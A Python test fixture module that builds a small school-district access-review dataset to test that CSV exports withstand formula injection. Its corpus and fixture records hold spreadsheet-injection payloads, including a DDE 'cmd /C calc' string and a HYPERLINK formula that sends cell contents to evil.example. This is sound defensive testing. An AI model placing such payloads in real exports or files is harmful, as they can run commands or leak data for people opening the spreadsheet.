"""Shared builders for the export tests (imported by the other test_export_* modules).

``build_tiny_district`` makes a hand-written district whose people, titles, groups and apps
carry a formula-injection corpus, with every count known in advance. ``build_demo_district``
runs the real CLI pipeline over the demo district once; tests copy the folder.
"""

from __future__ import annotations

import csv
import shutil
from datetime import date, datetime, timezone
from pathlib import Path

from access_review.analysis import analyse
from access_review.config import load_config
from access_review.records import Account, Grant, Group, Membership, Resource, Snapshot
from access_review.store import Store

AS_OF = date(2026, 11, 28)
SYNCED_AT = datetime(2026, 11, 28, 6, 30, tzinfo=timezone.utc)

# Text that a spreadsheet would evaluate if written naively (OWASP CSV-injection examples).
INJECTION_CORPUS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+2",
    "\r=3+4",
)


def _write_csv(path: Path, rows: list[dict]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def build_tiny_district(folder: Path) -> Path:
    """Roster, inventory and one AD snapshot, stored; returns the config path.

    People: E1 the data manager (principal), E2..E6 staff whose names/titles are injection
    strings, E7 separated. Group 'SpEd Staff' grants 'Special Education Records'
    (confidential, department=Special Education authorized); 'Payroll' grants 'Payroll'
    (critical, data manager only). An unapproved OAuth app is held by two accounts.
    """
    folder.mkdir(parents=True, exist_ok=True)
    roster = [
        {
            "employee_id": "E1",
            "name": "Pat Principal",
            "email": "pat@d.org",
            "title": "Principal",
            "department": "Administration",
            "status": "active",
            "status_date": "",
            "training_date": "2026-09-01",
        },
        {
            "employee_id": "E2",
            "name": "=1+1",
            "email": "e2@d.org",
            "title": "@SUM(A1)",
            "department": "Special Education",
            "status": "active",
            "status_date": "",
            "training_date": "2026-01-10",
        },
        {
            "employee_id": "E3",
            "name": "+cmd|' /C calc'!A0",
            "email": "e3@d.org",
            "title": "-2+3",
            "department": "Special Education",
            "status": "active",
            "status_date": "",
            "training_date": "",
        },
        {
            "employee_id": "E4",
            "name": "-2+3",
            "email": "e4@d.org",
            "title": "Teacher",
            "department": "Math",
            "status": "active",
            "status_date": "",
            "training_date": "2024-05-01",
        },
        {
            "employee_id": "E5",
            "name": "@SUM(A1)",
            "email": "e5@d.org",
            "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "department": "Special Education",
            "status": "active",
            "status_date": "",
            "training_date": "2026-10-01",
        },
        {
            "employee_id": "E6",
            "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
            "email": "e6@d.org",
            "title": "Aide",
            "department": "Special Education",
            "status": "active",
            "status_date": "",
            "training_date": "2026-10-01",
        },
        {
            "employee_id": "E7",
            "name": "Sam Separated",
            "email": "e7@d.org",
            "title": "Teacher",
            "department": "Special Education",
            "status": "separated",
            "status_date": "2026-06-30",
            "training_date": "2026-01-01",
        },
    ]
    _write_csv(folder / "roster.csv", roster)
    _write_csv(
        folder / "inventory.csv",
        [
            {
                "resource": "Special Education Records",
                "classification": "confidential",
                "data_manager": "E1",
                "entitlements": "ad:group:SpEd Staff",
                "authorized": "department=Special Education",
                "review_frequency": "quarterly",
                "description": "IEPs",
            },
            {
                "resource": "Payroll",
                "classification": "critical",
                "data_manager": "E1",
                "entitlements": "ad:group:Payroll",
                "authorized": "",
                "review_frequency": "annual",
                "description": "=2*3",
            },
        ],
    )
    _write_csv(
        folder / "apps.csv",
        [
            {
                "app": "Gradebook Sync",
                "client_id": "approved-1",
                "approved": "yes",
                "approved_on": "2026-01-05",
                "approved_scopes": "",
            },
        ],
    )
    (folder / "access-review.toml").write_text(
        '[store]\npath = "store.db"\n[roster]\npath = "roster.csv"\n'
        '[inventory]\npath = "inventory.csv"\napps = "apps.csv"\n',
        encoding="utf-8",
    )

    s = "ad"
    accounts = [
        Account(
            s,
            f"a{i}",
            f"user{i}",
            email=f"e{i}@d.org",
            employee_id=f"E{i}",
            display_name=name,
            enabled=True,
            kind="person",
            last_sign_in=datetime(2026, 11, 20, tzinfo=timezone.utc),
        )
        for i, name in (
            (1, "Pat Principal"),
            (2, INJECTION_CORPUS[5]),
            (3, INJECTION_CORPUS[6]),
            (4, "-2+3"),
            (5, "@SUM(A1)"),
            (6, "=1+1"),
            (7, "Sam Separated"),
        )
    ]
    accounts.append(
        Account(s, "orphan", "=orphan", display_name="\t=1+2", enabled=True, kind="person")
    )
    sped = Group(s, "g-sped", "SpEd Staff")
    payroll = Group(s, "g-pay", "Payroll")
    evil_group = Group(s, "g-evil", "=1+1 group")
    memberships = [Membership(s, sped.key, f"ad:account:a{i}") for i in (1, 2, 3, 5, 6, 7)]
    memberships += [
        Membership(s, sped.key, evil_group.key, "group"),
        Membership(s, evil_group.key, "ad:account:a4"),
        Membership(s, evil_group.key, "ad:account:orphan"),
        Membership(s, payroll.key, "ad:account:a1"),
        Membership(s, payroll.key, "ad:account:a2"),
    ]
    app = Resource(
        s, "app-1", "=cmd|' /C calc'!A0", "oauth_app", extra={"client_id": "evil-client"}
    )
    good = Resource(s, "app-2", "Gradebook Sync", "oauth_app", extra={"client_id": "approved-1"})
    tab_app = Resource(
        s, "app-3", INJECTION_CORPUS[5], "oauth_app", extra={"client_id": "tab-client"}
    )
    cr_app = Resource(
        s, "app-4", INJECTION_CORPUS[6], "oauth_app", extra={"client_id": "cr-client"}
    )
    grants = [
        Grant(s, "gr1", app.key, "ad:account:a2", "read", "oauth", scopes=("mail.read",)),
        Grant(s, "gr4", tab_app.key, "ad:account:a3", "read", "oauth", scopes=("drive",)),
        Grant(s, "gr5", cr_app.key, "ad:account:a5", "read", "oauth", scopes=("drive",)),
        Grant(s, "gr2", app.key, "ad:account:a4", "read", "oauth", scopes=("drive",)),
        Grant(s, "gr3", good.key, "ad:account:a1", "read", "oauth", scopes=("classroom",)),
    ]
    snap = Snapshot(
        s,
        accounts,
        [sped, payroll, evil_group],
        memberships,
        [app, good, tab_app, cr_app],
        grants,
        complete=True,
        started_at=SYNCED_AT,
        finished_at=SYNCED_AT,
    )

    from access_review.imports import import_inventory, import_roster

    cfg = load_config(folder / "access-review.toml")
    with Store(cfg.store_path) as store:
        import_roster(cfg, store, cfg.roster_path)
        import_inventory(cfg, store, cfg.inventory_path, cfg.apps_path, cfg.holds_path)
        store.save_snapshot(snap)
    return folder / "access-review.toml"


def tiny_analysis(config_path: Path):
    cfg = load_config(config_path)
    store = Store(cfg.store_path)
    return cfg, store, analyse(cfg, store, today=AS_OF)


def copy_district(template: Path, dest: Path) -> Path:
    shutil.copytree(template, dest)
    return dest / "access-review.toml"


def test_tiny_district_builds_with_known_access(tmp_path):
    cfg, store, a = tiny_analysis(build_tiny_district(tmp_path / "d"))
    try:
        reach = {(x.account, x.resource) for x in a.access}
        assert ("ad:account:a4", "Special Education Records") in reach  # via the nested =1+1 group
        assert ("ad:account:a2", "Payroll") in reach
        assert len([x for x in a.access if x.resource == "Special Education Records"]) == 8
    finally:
        store.close()
